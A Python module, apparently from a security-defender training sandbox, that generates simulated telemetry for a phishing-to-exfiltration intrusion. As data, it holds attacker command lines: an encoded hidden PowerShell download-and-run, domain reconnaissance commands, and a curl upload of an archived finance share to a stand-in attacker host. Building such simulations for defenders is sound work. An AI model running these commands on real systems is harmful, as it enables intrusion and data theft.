"""Phishing that an operator makes an intrusion of: a click, a foothold, the way to the servers."""

from __future__ import annotations

from dataclasses import dataclass, replace
from random import Random

from defender_tui.sandbox.data import sensors
from defender_tui.sandbox.data.cast import Address, Cast, Device, User
from defender_tui.sandbox.data.device_acts import (
    beacon,
    dump_credentials,
    move_laterally,
    persist,
)
from defender_tui.sandbox.data.records import EvidenceRecord, MessageSubject
from defender_tui.sandbox.data.scene import Plot, Scene
from defender_tui.sandbox.data.traces import (
    Click,
    Connection,
    Delivery,
    DirectoryQuery,
    FileChange,
    Logon,
)

SENDER_DOMAIN = "northwind-billing.example"
CONTROLLER = Address("203.0.113.166", "MD", "Chisinau", 47.01, 28.86)
_MAIL_SERVER = "198.51.100.166"
_CONTROL_DOMAIN = "cdn.kb-mirror.example"
_SUBJECT = "Payment reminder 4471"
_LINK = f"https://{SENDER_DOMAIN}/r/4471"
_LURED = 9
_BLOCKED = 2


@dataclass(frozen=True, slots=True)
class Roles:
    """Who is who; `lured` begins with the victim and one whose click was blocked."""

    lured: tuple[User, ...]
    workstation: Device
    stolen: User
    servers: tuple[Device, ...]

    @property
    def victim(self) -> User:
        return self.lured[0]


def roles(cast: Cast) -> Roles:
    """Give the part that everybody plays in this tenant."""
    finance = cast.staff("Finance")
    lured = tuple(Random(f"phishing/{cast.seed}").sample(finance, _LURED))
    return Roles(
        lured=lured,
        workstation=cast.device_of[lured[0].account_name],
        stolen=cast.users[10],
        servers=(cast.device("srv-file-01"), cast.device("srv-sql-01")),
    )


def story(scene: Scene) -> Plot:
    """Tell it from the first message to the archive that leaves the file server."""
    who = roles(scene.cast)
    return Plot(
        "Multi-stage incident involving Initial access & Lateral movement on multiple endpoints",
        f"After a phishing message an operator worked by hand from {who.workstation.dns_name} "
        f"with the accounts {who.victim.upn} and {who.stolen.upn}.",
        "high",
        lambda: _tell(scene, who),
        lasts_h=3,
        tags=("Priority", "IR-retainer"),
    )


def _tell(scene: Scene, who: Roles) -> None:
    opened = _lure(scene, who)
    _foothold(scene, who)
    scene.go_to_min(9)
    _report_mail(scene, who, opened)
    _look_around(scene, who)
    scene.go_to_min(30)
    device, user = who.workstation, who.victim
    beacon(scene, device, user, controller=CONTROLLER, domain=_CONTROL_DOMAIN)
    scene.go_to_min(52)
    persist(scene, device, user)
    scene.go_to_min(80)
    dump_credentials(scene, device, user)
    for number, server in enumerate(who.servers):
        scene.go_to_min(112 + 25 * number)
        at = scene.moment
        scene.traces.append(Logon(at, server, who.stolen, "Network", device, device.ip_address))
        move_laterally(scene, device, server, who.stolen)
    _take_out(scene, who)


def _lure(scene: Scene, who: Roles) -> EvidenceRecord:
    """The message to everybody; gives that to the victim."""
    messages = []
    for number, user in enumerate(who.lured):
        is_blocked = number >= _LURED - _BLOCKED
        evidence = scene.message(
            _SUBJECT,
            user,
            sender=("Northwind Billing", f"billing@{SENDER_DOMAIN}"),
            sender_ip=_MAIL_SERVER,
            delivered=not is_blocked,
            urls=(_LINK,),
            received_at=scene.after_min(number * 0.7 - 104),
        )
        messages.append(evidence)
        if number > 0 and isinstance(evidence.subject, MessageSubject):
            scene.traces.append(Delivery(evidence.subject.received_at, evidence.subject))
    for evidence, minutes, is_allowed in ((messages[0], -71, True), (messages[1], -55, False)):
        if isinstance(evidence.subject, MessageSubject):
            user = evidence.subject.recipient
            ip = scene.cast.device_of[user.account_name].external_ip_address
            message_id = evidence.subject.network_message_id
            at = scene.after_min(minutes)
            scene.traces.append(Click(at, user, _LINK, message_id, ip, is_allowed))
    return messages[0]


def _foothold(scene: Scene, who: Roles) -> None:
    device, user = who.workstation, who.victim
    browser = scene.started(
        "msedge.exe",
        f'"msedge.exe" --single-argument {_LINK}',
        parent="outlook.exe",
        device=device,
        user=user,
        at=scene.after_min(-71),
    )
    archive = scene.cast.file("Payment_reminder_4471.zip")
    downloads = f"C:\\Users\\{user.account_name}\\Downloads"
    scene.traces.append(
        FileChange(
            scene.after_min(-70),
            device,
            "FileCreated",
            downloads,
            archive.name,
            archive.sha256,
            archive.size_bytes,
            browser,
            origin_url=_LINK,
        )
    )
    scene.raise_alert(
        sensors.ENDPOINT,
        "Suspicious PowerShell command line",
        "PowerShell ran with an encoded command that downloads and starts code.",
        severity="medium",
        tactic="Execution",
        techniques=("T1059.001", "T1027"),
        evidence=[
            scene.machine(device),
            scene.account(user),
            scene.process(
                "powershell.exe",
                "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
                parent="explorer.exe",
                device=device,
                user=user,
            ),
            scene.file("Payment_reminder_4471.pdf.lnk", device),
            scene.url(f"https://{_CONTROL_DOMAIN}/a/inv.ps1"),
        ],
    )


def _report_mail(scene: Scene, who: Roles, opened: EvidenceRecord) -> None:
    scene.raise_alert(
        sensors.MAIL,
        "Email messages containing malicious URL removed after delivery",
        "A message with a harmful link reached inboxes before it was recognised.",
        severity="informational",
        tactic="InitialAccess",
        techniques=("T1566.002",),
        evidence=[
            scene.mailbox(who.victim),
            replace(opened, created_at=scene.moment),
        ],
    )


def _look_around(scene: Scene, who: Roles) -> None:
    device, user = who.workstation, who.victim
    for minutes, image, command_line in (
        (13.0, "whoami.exe", "whoami /groups"),
        (13.6, "net.exe", 'net group "Domain Admins" /domain'),
        (14.9, "nltest.exe", scene.cast.own("nltest /dclist:contoso")),
        (16.2, "net.exe", "net view \\\\srv-file-01 /all"),
    ):
        scene.runs(
            image,
            command_line,
            parent="powershell.exe",
            device=device,
            user=user,
            at=scene.after_min(minutes),
        )
    at = scene.after_min(14)
    scene.traces.append(DirectoryQuery(at, user, device, "Domain Admins", "EnumerateGroups"))


def _take_out(scene: Scene, who: Roles) -> None:
    server = who.servers[0]
    tar = scene.runs(
        "tar.exe",
        "tar.exe -cf C:\\ProgramData\\kb.tar D:\\Shares\\Finance",
        parent="cmd.exe",
        device=server,
        user=who.stolen,
        at=scene.after_min(165),
    )
    curl = scene.runs(
        "curl.exe",
        f"curl.exe -T C:\\ProgramData\\kb.tar https://{_CONTROL_DOMAIN}/u",
        parent="cmd.exe",
        device=server,
        user=who.stolen,
        at=scene.after_min(171),
    )
    scene.traces += (
        FileChange(
            scene.after_min(166),
            server,
            "FileCreated",
            "C:\\ProgramData",
            "kb.tar",
            scene.cast.file("Payment_reminder_4471.zip").sha256[::-1],
            1_840_000_000,
            tar,
        ),
        Connection(
            scene.after_min(171.2),
            server,
            CONTROLLER.ip,
            f"https://{_CONTROL_DOMAIN}/u",
            443,
            curl,
            sent_bytes=1_840_000_000,
        ),
    )
